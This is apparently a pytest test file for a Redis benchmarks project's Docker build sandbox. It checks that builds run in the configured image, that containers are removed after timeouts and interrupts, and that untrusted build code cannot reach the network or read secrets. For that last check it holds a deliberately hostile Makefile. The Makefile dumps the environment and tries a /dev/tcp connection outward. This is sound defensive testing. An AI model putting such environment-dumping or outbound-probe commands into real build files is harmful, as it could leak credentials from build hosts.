"""The builder's docker sandbox: a variant whose ``build_image`` the engine has builds in it
(``--network none``, the make variables the only environment, the tree the only mount).
The image is Debian bookworm + build-essential made locally by scripts/build-image.sh
(mmdebstrap + docker import, cached by tag): minutes the first time, then nothing."""

from __future__ import annotations

import signal
import socket
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

from redis_benchmarks_spec.builder.daemon import Builder, BuilderConfig
from redis_benchmarks_spec.builder.sandbox import Sandbox
from redis_benchmarks_spec.builder.variants import load_variants
from redis_benchmarks_spec.common.process import wait_for
from redis_benchmarks_spec.events.messages import (
    SOURCE_GIT,
    BuildEvent,
    BuildFailure,
    BuildRequest,
    SourceLocation,
)
from redis_benchmarks_spec.events.names import StreamNames
from tests.hostile_fixtures import ARTIFACT_KEY
from tests.pipeline_fixtures import commit_all, tiny_redis_repo

REPO = Path(__file__).resolve().parents[1]
IMAGE = "rbs-build:bookworm"
VARIANT = "gcc:docker-sandbox"
EVIL_MAKEFILE = """\
all:
\t@echo ENV-BEGIN; env; echo ENV-END
\t@(echo x > /dev/tcp/{gateway}/{port}) 2>/dev/null && echo NET-OK || echo NET-BLOCKED
\t@exit 3
"""

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module", autouse=True)
def build_image() -> None:
    subprocess.run([str(REPO / "scripts" / "ensure-docker.sh")], check=True, timeout=120)
    subprocess.run([str(REPO / "scripts" / "build-image.sh"), IMAGE], check=True, timeout=1800)


def builder(redis_server, tmp_path: Path, names: StreamNames,  # type: ignore[no-untyped-def]
            build_timeout_s: float = 1800.0) -> Builder:
    d = tmp_path / "variants"
    d.mkdir()
    (d / "v.yml").write_text(f"id: '{VARIANT}'\ncompiler: gcc\ncpp_compiler: g++\n"
                             f"build_image: '{IMAGE}'\nenv:\n  REDIS_CFLAGS: '-DRBS_MARKER=dk'\n")
    return Builder(redis_server.client(), BuilderConfig(
        names=names, consumer="b1", variants=load_variants(d), block_ms=200,
        work_dir=tmp_path / "work", artifact_key=ARTIFACT_KEY.encode(),
        sandbox=Sandbox(engine="docker"), build_timeout_s=build_timeout_s))


def request(repo: Path, sha: str) -> BuildRequest:
    return BuildRequest(org="redis", repo="redis", branch="unstable", sha=sha,
                        commit_time_ms=1, source=SourceLocation(SOURCE_GIT, str(repo)),
                        build_variants=[VARIANT])


def test_builds_in_the_variants_image(redis_server, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    names = StreamNames.with_prefix(f"d{uuid.uuid4().hex[:8]}")
    repo = tiny_redis_repo(tmp_path / "repo")
    client = redis_server.client()
    client.xadd(names.build_requests, request(repo, commit_all(repo, "x")).encode())  # type: ignore[arg-type]
    assert builder(redis_server, tmp_path, names).run(max_requests=1) == 1
    failures = [BuildFailure.decode(f) for _, f in client.xrange(names.build_failures)]
    assert failures == []
    [(_, fields)] = client.xrange(names.builds)
    event = BuildEvent.decode(fields)
    assert event.redis_version == "7.9.0" and event.build_variant == VARIANT


def test_pull_request_code_in_docker_sees_no_network_no_secret(redis_server,  # type: ignore[no-untyped-def]
                                                                tmp_path: Path,
                                                                monkeypatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "docker-secret-7781")
    gateway = subprocess.run(["docker", "network", "inspect", "bridge", "--format",
                              "{{(index .IPAM.Config 0).Gateway}}"], capture_output=True,
                             text=True, timeout=60, check=True).stdout.strip()
    with socket.socket() as listener:  # reachable from any container that has a network
        listener.bind(("0.0.0.0", 0))
        listener.listen(1)
        names = StreamNames.with_prefix(f"d{uuid.uuid4().hex[:8]}")
        repo = tiny_redis_repo(tmp_path / "repo")
        (repo / "Makefile").write_text(EVIL_MAKEFILE.format(
            gateway=gateway, port=listener.getsockname()[1]))
        client = redis_server.client()
        client.xadd(names.build_requests, request(repo, commit_all(repo, "evil")).encode())  # type: ignore[arg-type]
        assert builder(redis_server, tmp_path, names).run(max_requests=1) == 1
    [(_, fields)] = client.xrange(names.build_failures)
    log = BuildFailure.decode(fields).log_tail
    assert "ENV-BEGIN" in log and "NET-BLOCKED" in log, log
    # docker copies the container's stdout and stderr apart: make's own "make: *** ..."
    # line (stderr) can land between env's lines (stdout) in the log (seen once in a run)
    env_lines = [line for line in
                 log.split("ENV-BEGIN")[1].split("ENV-END")[0].strip().splitlines()
                 if not line.startswith("make: ")]
    assert {line.split("=")[0] for line in env_lines} <= {
        "PATH", "HOME", "LANG", "TMPDIR", "PWD", "SHLVL", "_", "HOSTNAME", "MAKEFLAGS",
        "MFLAGS", "MAKELEVEL", "MAKEOVERRIDES", "CC", "CXX", "REDIS_CFLAGS", "V",
        "OLDPWD"}, env_lines
    assert "docker-secret-7781" not in log


def _build_containers_under(path: Path) -> list[str]:
    ids = subprocess.run(["docker", "ps", "-a", "-q", "--filter", "label=rbs.role=build"],
                         capture_output=True, text=True, timeout=60, check=True).stdout.split()
    sources = "{{range .Mounts}}{{.Source}} {{end}}"
    mounts = {cid: subprocess.run(["docker", "inspect", "-f", sources, cid],
                                  capture_output=True, text=True, timeout=60,
                                  check=False).stdout for cid in ids}
    return [cid for cid, found in mounts.items() if str(path) in found]


def test_a_timed_out_build_leaves_no_container(redis_server,  # type: ignore[no-untyped-def]
                                                tmp_path: Path) -> None:
    names = StreamNames.with_prefix(f"d{uuid.uuid4().hex[:8]}")
    repo = tiny_redis_repo(tmp_path / "repo")
    (repo / "Makefile").write_text("all:\n\t@sleep 300\n")
    client = redis_server.client()
    client.xadd(names.build_requests, request(repo, commit_all(repo, "slow")).encode())  # type: ignore[arg-type]
    assert builder(redis_server, tmp_path, names, build_timeout_s=5).run(max_requests=1) == 1
    [(_, fields)] = client.xrange(names.build_failures)
    assert "timed out" in BuildFailure.decode(fields).reason
    # killing the `docker run` client does not stop its container: the builder removes it
    assert _build_containers_under(tmp_path) == []


INTERRUPTED_MAKE = """
import sys
from pathlib import Path
from redis_benchmarks_spec.builder.compile import run_make
from redis_benchmarks_spec.builder.sandbox import Sandbox
from redis_benchmarks_spec.builder.variants import load_variants
variant = load_variants(Path(sys.argv[1]))[sys.argv[2]]
run_make(Path(sys.argv[3]), variant, Path(sys.argv[4]), 600, Sandbox(engine="docker"))
"""


def test_an_interrupted_build_leaves_no_container(tmp_path: Path) -> None:
    """Ctrl-C (and SIGTERM, which the CLI's long commands turn into the same) while make
    runs in a container: killing the `docker run` client does not stop the container, so
    the build removes it on its way out, as it does on a timeout."""
    variants = tmp_path / "variants"
    variants.mkdir()
    (variants / "v.yml").write_text(f"id: '{VARIANT}'\ncompiler: gcc\ncpp_compiler: g++\n"
                                    f"build_image: '{IMAGE}'\n")
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "Makefile").write_text("all:\n\t@sleep 300\n")
    proc = subprocess.Popen([sys.executable, "-c", INTERRUPTED_MAKE, str(variants), VARIANT,
                             str(tree), str(tmp_path / "make.log")], cwd=REPO,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        assert wait_for(lambda: bool(_build_containers_under(tmp_path)) or
                        proc.poll() is not None, timeout=120, interval=0.5)
        assert proc.poll() is None, proc.communicate()[0][-2000:]
        proc.send_signal(signal.SIGINT)
        out = proc.communicate(timeout=120)[0]
        assert "KeyboardInterrupt" in out, out[-2000:]
        assert _build_containers_under(tmp_path) == []
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate(timeout=30)
        for cid in _build_containers_under(tmp_path):  # a failure above leaves none either
            subprocess.run(["docker", "rm", "-f", cid], capture_output=True, timeout=60,
                           check=False)
